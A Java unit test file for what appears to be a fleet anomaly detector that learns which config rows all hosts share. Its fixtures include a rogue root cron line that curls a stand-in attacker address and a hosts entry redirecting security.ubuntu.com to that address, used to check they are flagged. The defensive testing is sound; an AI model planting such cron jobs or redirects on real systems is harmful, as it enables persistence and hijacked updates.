package io.diffy.rules.volatility;

import static io.diffy.schemas.TestObservations.THREE_AM;
import static io.diffy.schemas.TestObservations.instance;
import static io.diffy.schemas.TestObservations.row;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;

import io.diffy.rules.peers.Catalog;
import io.diffy.rules.peers.HostItems;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Each host's own form of a row counts as what all have; a second one, or another form, does not.
 */
class RowTemplatesTest {
  private static final Map<String, String> LOCALHOST = hosts("127.0.0.1", "localhost");
  private static final Map<String, String> REDIRECTED =
      hosts("198.51.100.7", "security.ubuntu.com");

  private final Map<Long, Map<String, String>> rows = new TreeMap<>();
  private final List<HostItems> hosts = new ArrayList<>();

  @Test
  void oneOwnLinePerHostIsWhatAllHave() {
    ownLines(24);
    assertEquals(List.of(LOCALHOST), left(6));
  }

  @Test
  void aLineOfAnotherFormStands() {
    ownLines(23);
    host(23, LOCALHOST, ownLine(23), REDIRECTED);
    assertEquals(List.of(LOCALHOST, REDIRECTED), left(23));
  }

  @Test
  void aSecondLineOfTheFormStandsWithTheFirst() {
    ownLines(23);
    host(23, LOCALHOST, ownLine(23), ownLine(66));
    assertEquals(List.of(ownLine(23), ownLine(66), LOCALHOST), left(23));
  }

  @Test
  void whatOnlySomeHostsHaveIsNoTemplate() {
    ownLines(16);
    IntStream.range(16, 24).forEach(n -> host(n, LOCALHOST));
    assertEquals(List.of(ownLine(3), LOCALHOST), left(3));
  }

  @Test
  void aSplayedCronLineIsWhatAllHaveAndAnotherCommandIsNot() {
    Map<String, String> rogue = cron("root sleep 7; curl http://198.51.100.7/x", "/etc/cron.d/0q");
    IntStream.range(0, 23).forEach(n -> host(n, splayed(n)));
    host(23, splayed(23), rogue);
    assertEquals(List.of(), left(5));
    assertEquals(List.of(rogue), left(23));
  }

  @Test
  void whatRunsIsTheSameInAllRowsOfATemplate() {
    IntStream.range(0, 24)
        .forEach(n -> host(n, row("path", "/var/tmp/k" + n, "cmdline", "/var/tmp/k" + n + " -d")));
    assertEquals(1, left(4).size());
  }

  @Test
  void fiveHostsSayNothingAboutWhatIsTheirOwn() {
    ownLines(5);
    assertEquals(2, left(2).size());
  }

  @Test
  void aRowOfTenThousandTokensIsNotLookedAt() {
    IntStream.range(0, 24)
        .forEach(n -> host(n, row("name", "a".repeat(3) + n, "value", "x ".repeat(10_000) + n)));
    assertEquals(1, left(4).size());
  }

  @Test
  void theOrderOfTheHostsDoesNotMatter() {
    ownLines(23);
    host(23, LOCALHOST, ownLine(23), ownLine(66));
    long[] before = learn().of(hosts.get(23)).items();
    Collections.reverse(hosts);
    assertArrayEquals(before, learn().of(hosts.get(0)).items());
  }

  @ParameterizedTest
  @CsvSource({"24, 0, true", "24, 1, true", "24, 9, false", "24, 23, true", "8, 5, false"})
  void whatCameToSomeIsNoTemplateYet(int of, int came, boolean template) {
    ownLines(of);
    RowTemplates settled =
        learn()
            .settled(
                item -> true,
                host -> {
                  int n = hosts.indexOf(host);
                  return Optional.of(
                      n < came ? new long[] {item(new TreeMap<>(LOCALHOST))} : host.items());
                });

    assertEquals(template ? 1 : 2, settled.of(hosts.get(0)).items().length);
    assertEquals(1, settled.of(hosts.get(of - 1)).items().length);
  }

  /**
   * A slash stands in Base64 where it likes, and dots in a token of the web or a long number; an
   * address is one token, whatever its network.
   */
  @ParameterizedTest
  @CsvSource({"KEY, 1", "DOTTED, 1", "NUMBER, 1", "ADDRESS, 1"})
  void whatIsOneTextIsOneToken(String kind, int left) {
    for (int n = 0; n < 8; n++) {
      String key = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoq" + n;
      Map<String, String> own =
          switch (kind) {
            case "KEY" -> row("username", "backup", "key", key + "/".repeat(n % 3) + "x");
            case "DOTTED" -> row("username", "backup", "key", key + ".x");
            case "NUMBER" -> row("username", "backup", "key", "1".repeat(44) + n + ".5");
            default ->
                row("chain", "INPUT", "target", "ACCEPT", "dst_ip", "10.0." + n % 3 + "." + n);
          };
      host(n, LOCALHOST, own);
    }

    assertEquals(left, learn().of(hosts.get(0)).items().length);
    assertEquals(left, learn().of(hosts.get(2)).items().length);
  }

  @Test
  void whoseOwnRowReadsOtherwiseThanBeforeHasIt() {
    ownLines(24);
    RowTemplates settled =
        learn()
            .settled(
                item -> true, host -> Optional.of(new long[] {item(new TreeMap<>(ownLine(99)))}));

    assertEquals(1, settled.of(hosts.get(0)).items().length);
  }

  private void ownLines(int count) {
    IntStream.range(0, count).forEach(n -> host(n, LOCALHOST, ownLine(n)));
  }

  private static Map<String, String> ownLine(int n) {
    return hosts("10.0.1." + (20 + n), "web" + (10 + n));
  }

  private static Map<String, String> hosts(String address, String names) {
    return row("address", address, "hostnames", names);
  }

  private static Map<String, String> splayed(int n) {
    return cron("root sleep " + (100 + 137 * n) + "; /opt/bin/agent --once", "/etc/cron.d/agent");
  }

  private static Map<String, String> cron(String command, String path) {
    return row("command", command, "path", path);
  }

  @SafeVarargs
  private void host(int n, Map<String, String>... shown) {
    long[] items = new long[shown.length];
    for (int at = 0; at < shown.length; at++) {
      items[at] = item(new TreeMap<>(shown[at]));
    }
    Arrays.sort(items);
    hosts.add(new HostItems(instance(n), THREE_AM, items));
  }

  /** Each row a thing of its own, named by its text. */
  private long item(Map<String, String> row) {
    long item = row.toString().hashCode();
    rows.put(item, row);
    return item;
  }

  private RowTemplates learn() {
    Catalog catalog = item -> item;
    return RowTemplates.learn(hosts, catalog, rows::get);
  }

  private List<Map<String, String>> left(int host) {
    long[] left = learn().of(hosts.get(host)).items();
    return Arrays.stream(left)
        .mapToObj(rows::get)
        .sorted((a, b) -> a.toString().compareTo(b.toString()))
        .toList();
  }
}
